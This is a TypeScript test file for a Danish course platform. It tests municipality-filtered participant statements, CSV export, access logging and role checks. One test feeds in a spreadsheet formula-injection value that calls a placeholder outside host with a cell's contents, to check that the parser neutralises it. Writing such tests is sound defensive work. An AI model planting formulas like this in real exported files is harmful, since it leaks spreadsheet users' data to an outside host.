import { expect } from 'chai';
import { backgroundOf, ageGroupIn } from '../../../src/domain/background.ts';
import { roomWorld, type RoomWorld } from '../room/world.ts';

const ulla = { role: 'instructor', person: { subject: '9', name: 'Ulla Brandt' } } as const;

describe('a statement for a municipality', () => {
  let world: RoomWorld;
  let instructor: Awaited<ReturnType<RoomWorld['arrive']>>;

  beforeEach(async () => {
    world = await roomWorld();
    instructor = await world.arrive(ulla);
  });
  afterEach(() => world.close());

  const come = (subject: string, name: string, municipality = '') =>
    world.arrive({ person: { subject, name }, ...(municipality && { background: { municipality } }) });
  const statement = (query = '') => instructor.open(`${instructor.home}opgoerelse${query}`);

  it('tells of that municipality’s people and of no others, on a page and in a file', async () => {
    const { person } = await come('1', 'Mette Holm', 'Køge');
    await come('2', 'Bo Herning', 'Herning');
    await come('3', 'Ukendt Unger');
    await world.deps.attendances.note({ room: instructor.room.id, person: person.id, week: 1 }, 'came');
    const choice = await statement();
    expect(choice.words).to.not.include('Mette').and.not.include('Bo Herning');
    expect(choice.$('nav li').toArray().map((one) => choice.$(one).text())).to.deep.equal([
      'Herning',
      'Køge',
      'Kommunen kendes ikke',
    ]); // prettier-ignore
    const page = await statement('?kommune=K%C3%B8ge');
    const cells = page.$('#statement tbody tr').children().toArray().map((cell) => page.$(cell).text()); // prettier-ignore
    expect(cells).to.deep.equal(['Mette Holm', '1 af 1', '0', '0 af 3', 'I gang']);
    expect(page.words).to.include('Gennemført er den').and.not.include('Bo Herning').and.not.include('Unger');
    const file = await (await instructor.ask(`${instructor.home}opgoerelse.csv?kommune=Herning`)).text();
    expect(file).to.include('Bo Herning;0 af 1').and.include('Gennemført er den').and.not.include('Mette');
    expect((await statement('?kommune=Odense')).status).to.equal(404);
    expect((await instructor.ask(`${instructor.home}opgoerelse.csv`)).status, 'no choice made').to.equal(404);
  });

  it('is told to those who are in it, and to no others', async () => {
    const mette = await come('1', 'Mette Holm', 'Køge');
    const bo = await come('2', 'Bo Herning', 'Herning');
    await statement('?kommune=K%C3%B8ge');
    const log = async (who: typeof mette) => (await who.open(`${who.home}hvem-har-laest`)).words;
    expect(await log(mette)).to.include('lavede en opgørelse til kommunen');
    expect(await log(bo)).to.not.include('opgørelse');
  });

  it('is of the whole class where nobody’s municipality is known, and says so', async () => {
    await come('1', 'Mette Holm');
    const page = await statement();
    expect(page.words).to.include('Mette Holm').and.include('Kursusrummet fortæller ikke');
  });

  it('is of the class’s municipality for those of whom the LMS tells none', async () => {
    await come('1', 'Mette Holm');
    await come('2', 'Bo Herning', 'Herning');
    const { room } = instructor;
    await world.schedules.save(room.id, { ...(await world.schedules.of(room.id)), municipality: 'Køge' }, 'test');
    const choice = await statement();
    expect(choice.$('nav li').toArray().map((one) => choice.$(one).text())).to.deep.equal(['Herning', 'Køge']); // prettier-ignore
    expect((await statement('?kommune=K%C3%B8ge')).words)
      .to.include('Mette Holm')
      .and.not.include('Bo Herning');
    expect((await statement('?kommune=Herning')).words)
      .to.include('Bo Herning')
      .and.not.include('Mette');
  });

  it('is for instructors alone', async () => {
    for (const role of ['participant', 'administrator'] as const) {
      const other = await world.arrive({ role, person: { subject: '5', name: '' } });
      expect((await other.open(`${other.home}opgoerelse`)).status, role).to.equal(404);
    }
  });

  it('reads what an LMS may write, and leaves out what cannot be read', () => {
    expect(backgroundOf({ municipality: ' Køge  Kommune', sex: 'K', birthYear: '1990' })).to.deep.equal({
      municipality: 'Køge',
      sex: 'kvinde',
      birthYear: 1990,
    });
    const formula = '=WEBSERVICE("http://elsewhere.example/"&H2)';
    expect(backgroundOf({ municipality: formula, sex: '', birthYear: '' })).to.deep.equal({
      municipality: formula.slice(1),
    });
    expect(backgroundOf({ municipality: '', sex: '?', birthYear: '90' })).to.equal(undefined);
    const ages = [1996, 2009, 1992, 1960, 1900].map((birthYear) => ageGroupIn(2026, { birthYear }));
    expect(ages).to.deep.equal(['30-34', '0-17', '30-34', '60+', '60+']);
  });

  it('keeps what the LMS tells under encryption, in the person’s own copy', async () => {
    const mette = await come('1', 'Mette Holm', 'Køge');
    expect(world.deps.store.opened().find(({ name }) => name === 'people')?.encrypted).to.include('background');
    expect(await (await mette.ask(`${mette.home}mine-data/kopi.json`)).text()).to.include('Køge');
  });
});

describe('the sheet for case workers', () => {
  let world: RoomWorld;
  before(async () => {
    const { courses } = await import('../room/course.ts');
    const asking = structuredClone(courses);
    for (const { modules } of [asking.da, asking.en ?? asking.da]) if (modules[0]) modules[0].askAbout = ['Sover du?'];
    world = await roomWorld(asking);
  });
  after(() => world.close());

  it('is public, in both languages, by the weeks of the course, and about nobody', async () => {
    const visitor = await world.arrive({ person: { subject: '1', name: 'Mette Holm' } });
    const page = await visitor.open('/sagsbehandler');
    expect(page.h1).to.equal('Spørg om kurset, uge for uge');
    expect(page.words).to.include('Uge 1: Emne 1').and.include('Sover du?').and.not.include('Mette');
    expect((await visitor.open('/case-worker')).h1).to.equal('Ask about the course, week by week');
  });
});
